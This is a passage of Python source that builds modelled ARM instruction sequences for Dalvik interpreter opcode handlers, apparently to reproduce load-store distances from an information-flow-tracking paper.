            b.emit(
                fetch("r1", 1),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.mov("r1", asm.reg("r1", lsl=16)),
                asm.mov("r1", asm.reg("r1", asr=16)),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r1", "r3"))
        elif fmt is Format.F21H:
            b.emit(
                fetch("r1", 1),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.mov("r1", asm.reg("r1", lsl=16)),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r1", "r3"))
        else:  # F31I
            b.emit(
                fetch("r1", 1),
                fetch("r2", 2),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.orr("r1", "r1", asm.reg("r2", lsl=16)),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r1", "r3"))
        b.emit(goto_opcode())
        return b.build()

    def const_wide(self, instr: Instr) -> Routine:
        b = _Builder()
        fmt = instr.op.fmt
        if fmt is Format.F21S:
            b.emit(
                fetch("r0", 1),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.mov("r0", asm.reg("r0", lsl=16)),
                asm.mov("r0", asm.reg("r0", asr=16)),
                asm.mov("r1", asm.reg("r0", asr=31)),
            )
        elif fmt is Format.F21H:
            b.emit(
                fetch("r1", 1),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.mov("r1", asm.reg("r1", lsl=16)),
                asm.mov("r0", 0),
            )
        elif fmt is Format.F31I:
            b.emit(
                fetch("r0", 1),
                fetch("r1", 2),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
                asm.orr("r0", "r0", asm.reg("r1", lsl=16)),
                asm.mov("r1", asm.reg("r0", asr=31)),
            )
        else:  # F51L
            b.emit(
                fetch("r0", 1),
                fetch("r1", 2),
                asm.orr("r0", "r0", asm.reg("r1", lsl=16)),
                fetch("r1", 3),
                fetch("r2", 4),
                asm.orr("r1", "r1", asm.reg("r2", lsl=16)),
                asm.mov("r3", asm.reg("rINST", lsr=8)),
            )
        b.emit(_vreg_addr("r3", "r3"), fetch_advance(instr.units), get_inst_opcode())
        b.data_store(asm.strd("r0", "r1", "r3"))
        b.emit(goto_opcode())
        return b.build()

    def const_pool(self, instr: Instr, pool_index: int) -> Routine:
        """const-string / const-class: load a reference from the constant pool."""
        b = _Builder()
        b.emit(
            fetch("r1", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.ldr("r2", "rSELF", SELF_POOL),
            asm.ldr("r0", "r2", asm.reg("r1", lsl=2)),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    # -- object trivia ---------------------------------------------------------

    def monitor(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r2", asm.reg("rINST", lsr=8)),
            get_vreg("r0", "r2"),
            asm.cmp("r0", 0),
            fetch_advance(instr.units),
            get_inst_opcode(),
            goto_opcode(),
        )
        return b.build()

    def check_cast(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r1", 1),
            asm.mov("r2", asm.reg("rINST", lsr=8)),
            get_vreg("r0", "r2"),
            asm.cmp("r0", 0),
            asm.ldr("r3", "r0", 0),  # object's class pointer
            asm.ldr("r2", "rSELF", SELF_POOL),
            asm.ldr("r2", "r2", asm.reg("r1", lsl=2)),  # target class
            asm.cmp("r3", asm.reg("r2")),
            asm.b(".LcheckInstanceOk"),
            fetch_advance(instr.units),
            get_inst_opcode(),
            goto_opcode(),
        )
        return b.build()

    def instance_of(self, instr: Instr, result: int) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.ubfx("r9", "rINST", 8, 4),
            asm.mov("r2", asm.reg("rINST", lsr=12)),
            get_vreg("r0", "r2"),
            asm.cmp("r0", 0),
            asm.ldr("r1", "r0", 0),
            asm.patch("r0", result, reads=("r0", "r1"), mnemonic="bl dvmInstanceof"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def array_length(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r1", asm.reg("rINST", lsr=12)),
            asm.ubfx("r2", "rINST", 8, 4),
        )
        b.data_load(get_vreg("r0", "r1"))
        b.emit(
            asm.cmp("r0", 0),
            asm.ldr("r3", "r0", 8),  # length word
            fetch_advance(instr.units),
        )
        b.data_store(set_vreg("r3", "r2"))
        b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def new_instance(self, instr: Instr, object_address: int) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r1", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.ldr("r2", "rSELF", SELF_POOL),
            asm.ldr("r0", "r2", asm.reg("r1", lsl=2)),
            asm.patch("r0", object_address, reads=("r0",), mnemonic="bl dvmAllocObject"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def new_array(self, instr: Instr, array_address: int) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r1", 1),
            asm.mov("r2", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
            get_vreg("r0", "r2"),  # requested length
            asm.cmp("r0", 0),
            asm.patch("r0", array_address, reads=("r0",), mnemonic="bl dvmAllocArray"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def throw(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(asm.mov("r2", asm.reg("rINST", lsr=8)))
        b.data_load(get_vreg("r1", "r2"))
        b.data_store(asm.str_("r1", "rSELF", SELF_EXCEPTION))
        return b.build()

    # -- control flow ---------------------------------------------------------

    def goto(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(asm.b(instr.symbol or ""))
        return b.build()

    def if_test(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r1", asm.reg("rINST", lsr=12)),
            asm.ubfx("r0", "rINST", 8, 4),
            get_vreg("r2", "r0"),
            get_vreg("r3", "r1"),
            asm.cmp("r2", asm.reg("r3")),
            asm.b(instr.symbol or ""),
        )
        return b.build()

    def if_testz(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r0", asm.reg("rINST", lsr=8)),
            get_vreg("r2", "r0"),
            asm.cmp("r2", 0),
            asm.b(instr.symbol or ""),
        )
        return b.build()

    def packed_switch(self, instr: Instr, table_base: int, first_key: int) -> Routine:
        # Table base and first key resolve before the value load, keeping the
        # tainted load as close as possible to whatever the taken case stores
        # — the temporal locality that lets PIFT catch the paper's
        # ImplicitFlow1 (§4.2).
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=8)),
            asm.patch("r2", table_base, mnemonic="movw"),
            asm.patch("r1", first_key, mnemonic="movw"),
        )
        b.data_load(get_vreg("r0", "r3"))
        b.emit(
            asm.sub("r0", "r0", asm.reg("r1")),
            asm.cmp("r0", 0),
            asm.ldr("r3", "r2", asm.reg("r0", lsl=2)),  # jump-table entry
            asm.b(".LswitchDispatch"),
        )
        return b.build()

    def sparse_switch(self, instr: Instr, table_base: int, comparisons: int) -> Routine:
        b = _Builder()
        b.emit(asm.mov("r3", asm.reg("rINST", lsr=8)))
        b.data_load(get_vreg("r0", "r3"))
        b.emit(asm.patch("r2", table_base, mnemonic="movw"))
        for i in range(max(comparisons, 1)):
            b.emit(
                asm.ldr("r1", "r2", 4 * i),
                asm.cmp("r0", asm.reg("r1")),
                asm.b(".LsparseHit"),
            )
        return b.build()

    # -- comparisons ------------------------------------------------------------

    def cmp_long(self, instr: Instr, result: int) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
            _vreg_addr("r2", "r2"),
            _vreg_addr("r3", "r3"),
        )
        b.data_load(asm.ldrd("r0", "r1", "r2"))
        b.emit(
            asm.ldrd("r10", "r11", "r3"),
            asm.subs("r0", "r0", asm.reg("r10")),
            asm.patch("r0", result & 0xFFFFFFFF, reads=("r0", "r1", "r11"), mnemonic="sbcs"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def cmp_float(self, instr: Instr, result: int, helper: str, wide: bool) -> Routine:
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
        )
        if wide:
            b.emit(_vreg_addr("r2", "r2"), _vreg_addr("r3", "r3"))
            b.data_load(asm.ldrd("r0", "r1", "r2"))
            b.emit(asm.ldrd("r10", "r11", "r3"))
        else:
            b.data_load(get_vreg("r0", "r2"))
            b.emit(get_vreg("r1", "r3"))
        b.emit(*helper_body(helper))
        b.emit(
            asm.patch("r0", result & 0xFFFFFFFF, reads=("r0",), mnemonic="mov"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    # -- arrays (Table 1: aget/aput = 2, aput-object = 10) --------------------

    def aget(self, instr: Instr, width: int, wide: bool = False) -> Routine:
        b = _Builder()
        shift = _ELEMENT_SHIFT[width]
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
            get_vreg("r0", "r2"),  # array reference
            get_vreg("r1", "r3"),  # index
            asm.ldr("r2", "r0", 8),  # length (bounds check)
            asm.cmp("r1", asm.reg("r2")),
            asm.add("r0", "r0", asm.reg("r1", lsl=shift) if shift else asm.reg("r1")),
        )
        if wide:
            b.emit(_vreg_addr("r9", "r9"))
            b.data_load(asm.ldrd("r2", "r3", "r0", 12))
            b.emit(fetch_advance(instr.units))
            b.data_store(asm.strd("r2", "r3", "r9"))
        else:
            b.data_load(_array_load("r2", "r0", 12, width))
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r2", "r9"))
        b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def aput(self, instr: Instr, width: int, wide: bool = False) -> Routine:
        b = _Builder()
        shift = _ELEMENT_SHIFT[width]
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
            get_vreg("r0", "r2"),
            get_vreg("r1", "r3"),
            asm.ldr("r2", "r0", 8),
            asm.cmp("r1", asm.reg("r2")),
            asm.add("r0", "r0", asm.reg("r1", lsl=shift) if shift else asm.reg("r1")),
        )
        if wide:
            b.emit(_vreg_addr("r9", "r9"))
            b.data_load(asm.ldrd("r2", "r3", "r9"))
            b.emit(fetch_advance(instr.units))
            b.data_store(asm.strd("r2", "r3", "r0", 12))
        else:
            b.data_load(get_vreg("r2", "r9"))
            b.emit(fetch_advance(instr.units))
            b.data_store(_array_store("r2", "r0", 12, width))
        b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def aput_object(self, instr: Instr) -> Routine:
        # The long distance (10) comes from the component-type check between
        # the value load and the element store (paper §4.1: "the relatively
        # long load-store distance is due to type checking").
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
            get_vreg("r0", "r2"),
            get_vreg("r1", "r3"),
        )
        b.data_load(get_vreg("r10", "r9"))  # the object reference to store
        b.emit(
            asm.ldr("r2", "r0", 8),
            asm.cmp("r1", asm.reg("r2")),
            asm.cmp("r10", 0),
            asm.ldr("r11", "r0", 0),  # array class
            asm.ldr("r2", "r10", 0),  # value class
            asm.ldr("r11", "r11", 8),  # array component type
            asm.cmp("r2", asm.reg("r11")),
            asm.b(".LaputObjOk"),
            asm.add("r0", "r0", asm.reg("r1", lsl=2)),
        )
        b.data_store(asm.str_("r10", "r0", 12))
        b.emit(fetch_advance(instr.units), get_inst_opcode(), goto_opcode())
        return b.build()

    # -- instance fields (Table 1: iget=5, iput=4, quick/volatile variants) ----

    def iget(self, instr: Instr, wide: bool = False) -> Routine:
        name = instr.op.name
        quick = name.endswith("-quick") or "-quick" in name
        volatile = name.endswith("-volatile")
        b = _Builder()
        b.emit(
            fetch("r3", 1),  # field byte offset
            asm.mov("r2", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        b.data_load(get_vreg("r0", "r2"))  # object reference
        if wide:
            b.emit(
                _vreg_addr("r9", "r9"),
                asm.add("r3", "r0", asm.reg("r3")),
                asm.ldrd("r0", "r1", "r3"),
                fetch_advance(instr.units),
            )
            b.data_store(asm.strd("r0", "r1", "r9"))
            b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        if quick:
            b.emit(
                asm.cmp("r0", 0),
                asm.ldr("r2", "r0", asm.reg("r3")),
                fetch_advance(instr.units),
            )
            b.data_store(set_vreg("r2", "r9"))
        elif volatile:
            b.emit(
                asm.cmp("r0", 0),
                asm.ldr("r2", "r0", asm.reg("r3")),
                asm.nop("dmb ish"),  # acquire barrier
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r2", "r9"))
        else:
            b.emit(
                asm.cmp("r0", 0),
                asm.ldr("r2", "r0", asm.reg("r3")),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r2", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def iput(self, instr: Instr, wide: bool = False) -> Routine:
        name = instr.op.name
        quick = "-quick" in name
        volatile = name.endswith("-volatile")
        is_object = name.startswith("iput-object")
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.mov("r2", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        if wide:
            if quick:
                b.emit(get_vreg("r2", "r2"), _vreg_addr("r9", "r9"))
                b.data_load(asm.ldrd("r0", "r1", "r9"))
                b.emit(asm.add("r2", "r2", asm.reg("r3")))
                b.data_store(asm.strd("r0", "r1", "r2"))
                b.emit(fetch_advance(instr.units), get_inst_opcode(), goto_opcode())
            else:
                b.emit(_vreg_addr("r9", "r9"))
                b.data_load(asm.ldrd("r0", "r1", "r9"))
                b.emit(
                    get_vreg("r2", "r2"),
                    asm.add("r2", "r2", asm.reg("r3")),
                    fetch_advance(instr.units),
                )
                b.data_store(asm.strd("r0", "r1", "r2"))
                b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        b.data_load(get_vreg("r0", "r9"))  # the value
        if quick:
            b.emit(get_vreg("r1", "r2"))
            b.data_store(asm.str_("r0", "r1", asm.reg("r3")))
            b.emit(fetch_advance(instr.units), get_inst_opcode(), goto_opcode())
        elif volatile:
            b.emit(
                get_vreg("r1", "r2"),
                asm.cmp("r1", 0),
                asm.nop("dmb ish"),  # release barrier
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(asm.str_("r0", "r1", asm.reg("r3")))
            b.emit(goto_opcode())
        elif is_object:
            b.emit(
                get_vreg("r1", "r2"),
                asm.cmp("r1", 0),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(asm.str_("r0", "r1", asm.reg("r3")))
            b.emit(goto_opcode())
        else:
            b.emit(
                get_vreg("r1", "r2"),
                asm.cmp("r1", 0),
                fetch_advance(instr.units),
            )
            b.data_store(asm.str_("r0", "r1", asm.reg("r3")))
            b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    # -- static fields (Table 1: sget=3, sput=2) ------------------------------

    def sget(self, instr: Instr, wide: bool = False) -> Routine:
        volatile = instr.op.name.endswith("-volatile")
        b = _Builder()
        b.emit(
            fetch("r1", 1),  # byte offset in the statics area
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.ldr("r2", "rSELF", SELF_STATICS),
        )
        if wide:
            b.emit(asm.add("r2", "r2", asm.reg("r1")))
            b.data_load(asm.ldrd("r0", "r1", "r2"))
            b.emit(_vreg_addr("r9", "r9"), fetch_advance(instr.units))
            b.data_store(asm.strd("r0", "r1", "r9"))
            b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        b.data_load(asm.ldr("r0", "r2", asm.reg("r1")))
        if volatile:
            b.emit(asm.nop("dmb ish"))
        b.emit(fetch_advance(instr.units), get_inst_opcode())
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def sput(self, instr: Instr, wide: bool = False) -> Routine:
        volatile = instr.op.name.endswith("-volatile")
        b = _Builder()
        if wide:
            b.emit(
                fetch("r1", 1),
                asm.ldr("r2", "rSELF", SELF_STATICS),
                asm.mov("r9", asm.reg("rINST", lsr=8)),
                _vreg_addr("r9", "r9"),
                asm.add("r2", "r2", asm.reg("r1")),
            )
            b.data_load(asm.ldrd("r0", "r1", "r9"))
            b.emit(fetch_advance(instr.units))
            b.data_store(asm.strd("r0", "r1", "r2"))
            b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        b.emit(fetch("r1", 1), asm.mov("r9", asm.reg("rINST", lsr=8)))
        b.data_load(get_vreg("r0", "r9"))
        b.emit(asm.ldr("r2", "rSELF", SELF_STATICS))
        if volatile:
            b.emit(asm.nop("dmb ish"), asm.nop("dmb ish"))
        b.data_store(asm.str_("r0", "r2", asm.reg("r1")))
        b.emit(fetch_advance(instr.units), get_inst_opcode(), goto_opcode())
        return b.build()

    # -- unary ops and conversions ---------------------------------------------

    def unary_int(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        b.data_load(get_vreg("r0", "r3"))
        b.emit(fetch_advance(instr.units))
        if instr.op.name == "neg-int":
            b.emit(asm.rsb("r0", "r0", 0))
        else:  # not-int
            b.emit(asm.mvn("r0", asm.reg("r0")))
        b.emit(get_inst_opcode())
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def unary_wide(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
            _vreg_addr("r3", "r3"),
            _vreg_addr("r9", "r9"),
        )
        b.data_load(asm.ldrd("r0", "r1", "r3"))
        b.emit(fetch_advance(instr.units))
        name = instr.op.name
        if name == "neg-long":
            b.emit(asm.rsb("r0", "r0", 0, s=True), asm.rsc("r1", "r1", 0))
        elif name == "not-long":
            b.emit(asm.mvn("r0", asm.reg("r0")), asm.mvn("r1", asm.reg("r1")))
        else:  # neg-double: flip the sign bit of the high word
            b.emit(asm.eor("r1", "r1", 1 << 31), get_inst_opcode())
            b.data_store(asm.strd("r0", "r1", "r9"))
            b.emit(goto_opcode())
            return b.build()
        b.emit(get_inst_opcode())
        b.data_store(asm.strd("r0", "r1", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def unary_float(self, instr: Instr, result: int) -> Routine:
        """neg-float: sign flip through the soft-float helper path."""
        assert instr.op.helper is not None
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        b.data_load(get_vreg("r0", "r3"))
        b.emit(asm.mov("r1", asm.reg("r0")))
        b.emit(*helper_body(instr.op.helper))
        b.emit(
            asm.patch("r0", result, reads=("r0",), mnemonic="mov"),
            fetch_advance(instr.units),
            get_inst_opcode(),
        )
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def convert(self, instr: Instr, result: Optional[Tuple[int, int]] = None) -> Routine:
        """Conversions with a fixed native body (no ABI helper)."""
        name = instr.op.name
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        if name == "int-to-long":
            b.data_load(get_vreg("r0", "r3"))
            b.emit(
                _vreg_addr("r9", "r9"),
                fetch_advance(instr.units),
                asm.mov("r1", asm.reg("r0", asr=31)),
                get_inst_opcode(),
            )
            b.data_store(asm.strd("r0", "r1", "r9"))
        elif name == "long-to-int":
            b.emit(_vreg_addr("r3", "r3"))
            b.data_load(asm.ldr("r0", "r3"))  # low word only
            b.emit(fetch_advance(instr.units), get_inst_opcode())
            b.data_store(set_vreg("r0", "r9"))
        else:  # int-to-byte / int-to-char / int-to-short: distance 6
            shift = {"int-to-byte": 24, "int-to-char": 16, "int-to-short": 16}[name]
            narrowing = asm.reg("r0", asr=shift) if name != "int-to-char" else asm.reg(
                "r0", lsr=shift
            )
            b.data_load(get_vreg("r0", "r3"))
            b.emit(
                fetch_advance(instr.units),
                asm.mov("r0", asm.reg("r0", lsl=shift)),
                asm.mov("r0", narrowing),
                get_inst_opcode(),
                asm.nop("sched"),
            )
            b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def convert_helper(
        self, instr: Instr, result: Tuple[int, int], src_wide: bool, dst_wide: bool
    ) -> Routine:
        """Conversions through an ABI helper (to/from float/double)."""
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),
            asm.ubfx("r9", "rINST", 8, 4),
        )
        if src_wide:
            b.emit(_vreg_addr("r3", "r3"))
            b.data_load(asm.ldrd("r0", "r1", "r3"))
        else:
            b.data_load(get_vreg("r0", "r3"))
        assert instr.op.helper is not None
        b.emit(*helper_body(instr.op.helper))
        low, high = result
        b.emit(asm.patch("r0", low, reads=("r0",), mnemonic="mov"))
        if dst_wide:
            b.emit(
                asm.patch("r1", high, reads=("r0",), mnemonic="mov"),
                _vreg_addr("r9", "r9"),
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(asm.strd("r0", "r1", "r9"))
        else:
            b.emit(fetch_advance(instr.units), get_inst_opcode())
            b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    # -- binary arithmetic ------------------------------------------------------

    _NATIVE_INT_BODIES = {
        "add-int": lambda: [asm.add("r0", "r0", asm.reg("r1"))],
        "sub-int": lambda: [asm.sub("r0", "r0", asm.reg("r1"))],
        "mul-int": lambda: [asm.mul("r0", "r1", "r0")],
        "and-int": lambda: [asm.and_("r0", "r0", asm.reg("r1"))],
        "or-int": lambda: [asm.orr("r0", "r0", asm.reg("r1"))],
        "xor-int": lambda: [asm.eor("r0", "r0", asm.reg("r1"))],
        "rsub-int": lambda: [asm.rsb("r0", "r0", asm.reg("r1"))],
    }
    _SHIFT_MNEMONICS = {"shl-int": "lsl", "shr-int": "asr", "ushr-int": "lsr"}

    def _int_body(self, base_name: str, result: Optional[int]) -> List[Instruction]:
        """One-instruction body computing r0 <- r0 op r1."""
        maker = self._NATIVE_INT_BODIES.get(base_name)
        if maker is not None:
            return maker()
        mnemonic = self._SHIFT_MNEMONICS.get(base_name)
        if mnemonic is not None:
            # Register-specified shift: one instruction, oracle-valued.
            assert result is not None
            return [asm.patch("r0", result, reads=("r0", "r1"), mnemonic=mnemonic)]
        raise ValueError(f"no native body for {base_name}")

    @staticmethod
    def _base_name(name: str) -> str:
        for suffix in ("/2addr", "/lit16", "/lit8"):
            if name.endswith(suffix):
                return name[: -len(suffix)]
        return name

    def binop_int(self, instr: Instr, result: Optional[int] = None) -> Routine:
        """23x int binop; helper-backed ones (div/rem) get the long body."""
        base = self._base_name(instr.op.name)
        b = _Builder()
        b.emit(
            fetch("r3", 1),
            asm.mov("r9", asm.reg("rINST", lsr=8)),
            asm.and_("r2", "r3", 255),
            asm.mov("r3", asm.reg("r3", lsr=8)),
        )
        b.data_load(get_vreg("r0", "r2"))
        b.emit(get_vreg("r1", "r3"))
        if instr.op.helper:
            assert result is not None
            b.emit(asm.cmp("r1", 0))  # divide-by-zero check
            b.emit(*helper_body(instr.op.helper))
            b.emit(asm.patch("r0", result, reads=("r0",), mnemonic="mov"))
            b.emit(fetch_advance(instr.units))
        else:
            b.emit(fetch_advance(instr.units))
            b.emit(*self._int_body(base, result))
            b.emit(get_inst_opcode())
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def binop_2addr_int(self, instr: Instr, result: Optional[int] = None) -> Routine:
        """12x int binop/2addr — the paper's Figure 8 layout (distance 5)."""
        base = self._base_name(instr.op.name)
        b = _Builder()
        b.emit(
            asm.mov("r3", asm.reg("rINST", lsr=12)),  # r3 <- B
            asm.ubfx("r9", "rINST", 8, 4),  # r9 <- A
        )
        b.data_load(get_vreg("r1", "r3"))  # r1 <- vB
        b.emit(get_vreg("r0", "r9"))  # r0 <- vA
        if instr.op.helper:
            assert result is not None
            b.emit(asm.cmp("r1", 0))
            b.emit(*helper_body(instr.op.helper))
            b.emit(asm.patch("r0", result, reads=("r0",), mnemonic="mov"))
            b.emit(fetch_advance(instr.units))
        else:
            b.emit(fetch_advance(instr.units))
            b.emit(*self._int_body(base, result))
            b.emit(get_inst_opcode())
        b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    def binop_lit(self, instr: Instr, result: Optional[int] = None) -> Routine:
        base = self._base_name(instr.op.name)
        name = instr.op.name
        b = _Builder()
        if instr.op.fmt is Format.F22S:  # lit16: B is a nibble register
            b.emit(
                fetch("r3", 1),
                asm.mov("r2", asm.reg("rINST", lsr=12)),
                asm.ubfx("r9", "rINST", 8, 4),
            )
            b.data_load(get_vreg("r0", "r2"))
            b.emit(
                asm.mov("r3", asm.reg("r3", lsl=16)),
                asm.mov("r3", asm.reg("r3", asr=16)),  # sign-extend literal
            )
        else:  # lit8: AA dest, BB source, CC literal
            b.emit(
                fetch("r3", 1),
                asm.mov("r9", asm.reg("rINST", lsr=8)),
                asm.and_("r2", "r3", 255),
            )
            b.data_load(get_vreg("r0", "r2"))
            # Sign-extended reload of the CC byte (the unit's high byte).
            b.emit(asm.ldrsb("r3", "rPC", 3))
        if instr.op.helper:
            assert result is not None
            b.emit(asm.cmp("r3", 0))
            b.emit(*helper_body(instr.op.helper))
            b.emit(asm.patch("r0", result, reads=("r0",), mnemonic="mov"))
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r0", "r9"))
            b.emit(get_inst_opcode(), goto_opcode())
            return b.build()
        if base in self._SHIFT_MNEMONICS:
            # Literal shift amount, masked to 5 bits (distance 6 in Table 1).
            assert result is not None
            b.emit(
                fetch_advance(instr.units),
                asm.and_("r3", "r3", 31),
                asm.patch(
                    "r0", result, reads=("r0", "r3"),
                    mnemonic=self._SHIFT_MNEMONICS[base],
                ),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r0", "r9"))
        else:
            body = {
                "add-int": lambda: asm.add("r0", "r0", asm.reg("r3")),
                "rsub-int": lambda: asm.rsb("r0", "r0", asm.reg("r3")),
                "mul-int": lambda: asm.mul("r0", "r3", "r0"),
                "and-int": lambda: asm.and_("r0", "r0", asm.reg("r3")),
                "or-int": lambda: asm.orr("r0", "r0", asm.reg("r3")),
                "xor-int": lambda: asm.eor("r0", "r0", asm.reg("r3")),
            }[base]
            if instr.op.fmt is Format.F22S:
                # lit16 already spent two units sign-extending; the store
                # lands 5 after the load without an interleaved opcode crack.
                b.emit(fetch_advance(instr.units), body())
                b.data_store(set_vreg("r0", "r9"))
                b.emit(get_inst_opcode())
            else:
                b.emit(fetch_advance(instr.units), body(), get_inst_opcode())
                b.data_store(set_vreg("r0", "r9"))
        b.emit(goto_opcode())
        return b.build()

    _WIDE_NATIVE_BODIES = {
        "add-long": lambda: [
            asm.adds("r0", "r0", asm.reg("r10")),
            asm.adc("r1", "r1", asm.reg("r11")),
        ],
        "sub-long": lambda: [
            asm.subs("r0", "r0", asm.reg("r10")),
            asm.sbc("r1", "r1", asm.reg("r11")),
        ],
        "and-long": lambda: [
            asm.and_("r0", "r0", asm.reg("r10")),
            asm.and_("r1", "r1", asm.reg("r11")),
        ],
        "or-long": lambda: [
            asm.orr("r0", "r0", asm.reg("r10")),
            asm.orr("r1", "r1", asm.reg("r11")),
        ],
        "xor-long": lambda: [
            asm.eor("r0", "r0", asm.reg("r10")),
            asm.eor("r1", "r1", asm.reg("r11")),
        ],
    }

    def _wide_body(
        self, base: str, result: Optional[Tuple[int, int]], long_variant: bool
    ) -> List[Instruction]:
        maker = self._WIDE_NATIVE_BODIES.get(base)
        if maker is not None:
            return maker()
        assert result is not None
        low, high = result
        if base == "mul-long":
            body = [
                asm.mul("r2", "r0", "r11"),
                asm.mul("r3", "r1", "r10"),
                asm.add("r2", "r2", asm.reg("r3")),
                asm.patch("r0", low, reads=("r0", "r10"), mnemonic="umull"),
                asm.patch("r1", high, reads=("r2", "r0"), mnemonic="adc"),
            ]
            if long_variant:
                # mul-long/2addr lands in the 9-12 bucket (paper Table 1).
                body = [
                    asm.mov("r2", asm.reg("r0")),
                    asm.mov("r3", asm.reg("r1")),
                    asm.nop("sched"),
                ] + body
            return body
        # shl-long / shr-long / ushr-long: register-count shift cascade.
        return [
            asm.and_("r2", "r10", 63),
            asm.rsb("r3", "r2", 32),
            asm.patch("r1", high, reads=("r0", "r1", "r2"), mnemonic="lsl"),
            asm.patch("r0", low, reads=("r0", "r2"), mnemonic="lsl"),
            asm.cmp("r2", 32),
        ]

    def binop_wide(
        self, instr: Instr, result: Optional[Tuple[int, int]] = None
    ) -> Routine:
        base = self._base_name(instr.op.name)
